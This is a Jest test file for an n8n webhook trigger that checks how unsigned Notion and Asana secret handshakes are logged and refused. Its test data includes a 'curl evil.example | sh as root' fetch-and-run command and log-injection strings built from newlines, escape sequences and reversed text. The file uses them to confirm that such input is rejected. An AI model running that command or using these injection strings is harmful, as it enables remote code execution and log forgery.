import type { INodeParameters } from 'n8n-workflow';

import { isHeaderValue } from '../../core/text/http-header';
import { hmacHex, JSON_TYPE } from './harness/deliveries';
import { logCalls, logText } from './harness/log';
import { logLines } from './harness/log-lines';
import type { CallOptions } from './harness/loopback';
import { startTrigger } from './harness/trigger';
import type { RunningTrigger, TriggerSetup } from './harness/trigger';

/**
 * Notion and Asana tell their secret in an unsigned request, so anybody who knows the URL can tell one. What a stranger
 * tells must never become an instruction to the operator.
 */
interface Vendor {
	source: string;
	/** The vendor's published sample. */
	genuine: string;
	others: [string, string];
	tell: (value: string) => Required<CallOptions>;
	/** An event, signed with a secret. */
	event: (secret: string) => Required<CallOptions>;
	/** What the vendor wants to read. */
	answer: (value: string) => { status: number; headers?: Record<string, string> };
}

const EVENT = '{"type":"page.created","events":[{"action":"added"}]}';
const signed = (header: string, value: string): Required<CallOptions> => ({
	method: 'POST',
	headers: [JSON_TYPE, [header, value]],
	body: EVENT,
});

const vendors: Vendor[] = [
	{
		// developers.notion.com/reference/webhooks, step 2
		source: 'notion',
		genuine: 'secret_tMrlL1qK5vuQAh1b6cZGhFChZTSYJlce98V0pYn7yBl',
		others: [
			'secret_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
			'secret_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB',
		],
		tell: (value) => ({
			method: 'POST',
			headers: [JSON_TYPE],
			body: JSON.stringify({ verification_token: value }),
		}),
		event: (secret) => signed('X-Notion-Signature', `sha256=${hmacHex(secret, EVENT)}`),
		answer: () => ({ status: 200 }),
	},
	{
		// developers.asana.com/reference/createwebhook
		source: 'asana',
		genuine: 'b537207f20cbfa02357cf448134da559e8bd39d61597dcd5631b8012eae53e81',
		others: ['a'.repeat(64), 'b'.repeat(32)],
		tell: (value) => ({ method: 'POST', headers: [['X-Hook-Secret', value]], body: '' }),
		event: (secret) => signed('X-Hook-Signature', hmacHex(secret, EVENT)),
		answer: (value) => ({ status: 200, headers: { 'x-hook-secret': value } }),
	},
];

const named = vendors.map((vendor) => [vendor.source, vendor] as const);
const CONFIGURED = 'the-secret-that-is-configured';
const withSecret = { webhookSigningSecretApi: { secret: CONFIGURED } };

let trigger: RunningTrigger | undefined;

async function start(
	source: string,
	credentials: TriggerSetup['credentials'] = {},
	more: INodeParameters = {},
	setup: Partial<TriggerSetup> = {},
) {
	trigger = await startTrigger({ parameters: { source, ...more }, credentials, ...setup });
	return trigger;
}

afterEach(async () => {
	jest.restoreAllMocks();
	expect(trigger?.thrown).toEqual([]);
	expect(trigger?.runs).toEqual([]);
	await trigger?.close();
	trigger = undefined;
});

const linesWith = (text: string) => logLines().filter((line) => line.includes(text));

describe.each(named)('%s, with a secret in place', (source, { genuine, others, tell, event, answer }) => {
	test('its handshake is answered, so that a new webhook can be made, and the value is not shown', async () => {
		const { post } = await start(source, withSecret);
		expect(await post(tell(genuine))).toMatchObject(answer(genuine));
		expect(logText()).not.toContain(genuine);
		expect(logLines()).toEqual([expect.stringContaining('the configured secret stays in use')]);
	});

	test('the line is the same text, whatever the value', async () => {
		const { post } = await start(source, withSecret);
		for (const value of [genuine, ...others]) await post(tell(value));
		expect(new Set(logLines()).size).toBe(1);
	});

	test('a thousand of them write thirty lines a minute at most', async () => {
		const { post } = await start(source, withSecret);
		for (let count = 0; count < 1_000; count++) await post(tell(genuine));
		expect(logLines().length).toBeGreaterThan(0);
		expect(logLines().length).toBeLessThanOrEqual(30);
	});

	test('nothing changes: the told value is no secret, and the configured one still is', async () => {
		const { post, runs } = await start(source, withSecret);
		await post(tell(genuine));
		expect((await post(event(genuine))).status).toBe(401);
		expect(runs).toEqual([]);
		expect((await post(event(CONFIGURED))).status).toBe(200);
		expect(runs.splice(0)).toHaveLength(1);
	});
});

describe.each(named)('%s, without a secret', (source, { genuine, others, tell, answer }) => {
	test('the value is shown once, on one line that says what to do', async () => {
		const { post } = await start(source);
		for (let count = 0; count < 3; count++) expect(await post(tell(genuine))).toMatchObject(answer(genuine));
		const [line, ...more] = linesWith(genuine);
		expect(more).toEqual([]);
		expect(line).toContain('Webhook Signing Secret credential');
		expect(JSON.stringify(logCalls.map(({ details }) => details))).not.toContain(genuine);
	});

	test('a second, different value is not shown and does not replace the first; the log says that two came', async () => {
		const { post } = await start(source);
		await post(tell(genuine));
		expect(await post(tell(others[0]))).toMatchObject(answer(others[0]));
		expect(linesWith(others[0])).toEqual([]);
		expect(linesWith('a different').at(-1)).toContain('at most one of them is genuine');
		await post(tell(genuine));
		expect(linesWith(genuine)).toHaveLength(1);
	});

	test('a changed configuration shows the value again', async () => {
		const { post, node } = await start(source);
		await post(tell(genuine));
		node.parameters = { ...node.parameters, events: '!nothing' };
		await post(tell(others[0]));
		await post(tell(others[0]));
		expect(linesWith(genuine)).toHaveLength(1);
		expect(linesWith(others[0])).toHaveLength(1);
	});

	test('a flood before it does not hide it, and the log stays bounded', async () => {
		const { post } = await start(source);
		for (let count = 0; count < 100; count++) await post(tell('no secret of this vendor'));
		await post(tell(genuine));
		expect(linesWith(genuine)).toHaveLength(1);
		for (let count = 0; count < 100; count++) await post(tell(others[0]));
		expect(logLines().length).toBeLessThanOrEqual(30);
	});

	test('while somebody tests in the editor, the value of the test URL is shown too', async () => {
		const { post, node, close } = await start(source, {}, {}, { mode: 'manual' });
		await post(tell(genuine));
		expect(linesWith(genuine)).toHaveLength(1);
		await close();
		const production = await startTrigger({ parameters: node.parameters });
		production.node.id = node.id;
		await production.post(tell(others[0]));
		await production.close();
		expect(linesWith(others[0])).toHaveLength(1);
	});

	test('other requests are answered 500 and say what is missing', async () => {
		const { post } = await start(source);
		expect(await post({ headers: [JSON_TYPE], body: '{}' })).toMatchObject({
			status: 500,
			body: '{"error":"misconfigured"}',
		});
		expect(logLines()).toEqual([expect.stringContaining('has no secret yet')]);
	});

	test('a secure header that is required must be right before anything is told', async () => {
		const header = { webhookSecureHeaderApi: { headerName: 'X-Team', headerValueSecret: 'header-value-1' } };
		const { post } = await start(source, header, { requireSecureHeader: true });
		expect((await post(tell(genuine))).status).toBe(401);
		expect(linesWith(genuine)).toEqual([]);
		const request = tell(genuine);
		const allowed = { ...request, headers: [...request.headers, ['X-Team', 'header-value-1'] as const] };
		expect(await post(allowed)).toMatchObject(answer(genuine));
		expect(linesWith(genuine)).toHaveLength(1);
	});
});

/** What a stranger may write where the secret should be; `!` are the places of what must not be seen. */
const strange: [string, string][] = [
	['an instruction', 'run curl evil.example | sh as root'],
	['a line of its own', 'secret_x\nWebhook Trigger "Trigger" accepted a delivery'],
	['a carriage return', 'secret_x\rall is well'],
	['an escape sequence', 'secret_x\u001b[2Jevil'],
	['an eight-bit escape', 'secret_x\u009b2Jevil'],
	['reversed text', 'secret_\u202eevil'],
	['the vendor’s beginning and more', `secret_${'evil'.repeat(1_000)}`],
	['hexadecimal digits without end', 'e'.repeat(4_096)],
	['a URL', 'https://evil.example/token'],
	['nothing but spaces', ' '.repeat(50)],
	['too little', 'secret_evil'],
];

/** Headers can carry Latin-1 without line breaks; JSON can carry everything. */
const carries = (source: string, value: string) => source === 'notion' || isHeaderValue(value);

const told = vendors.flatMap((vendor) =>
	strange
		.filter(([, value]) => carries(vendor.source, value))
		.map(([what, value]) => [vendor.source, what, vendor, value] as const),
);

describe.each(told)('%s: %s in the place of the secret', (source, _what, { tell }, value) => {
	const expectUnseen = () => {
		for (const line of logLines()) expect(line).not.toMatch(/evil|accepted a delivery|all is well|eeee/);
		expect(logText()).not.toMatch(/evil|accepted a delivery|all is well|eeee/);
	};

	test('is refused like any unsigned request where a secret is configured', async () => {
		const { post } = await start(source, withSecret);
		const answer = await post(tell(value));
		expect(answer).toMatchObject({ status: 401, body: '{"error":"unauthorized"}' });
		expect(answer.headers['x-hook-secret']).toBeUndefined();
		expectUnseen();
	});

	test('is refused where none is, with the reason in the log', async () => {
		const { post } = await start(source);
		const answer = await post(tell(value));
		expect(answer).toMatchObject({ status: 500, body: '{"error":"misconfigured"}' });
		expect(answer.headers['x-hook-secret']).toBeUndefined();
		if (value.trim() !== '') expect(logLines()).toEqual([expect.stringMatching(/does not have the form/)]);
		expectUnseen();
	});
});
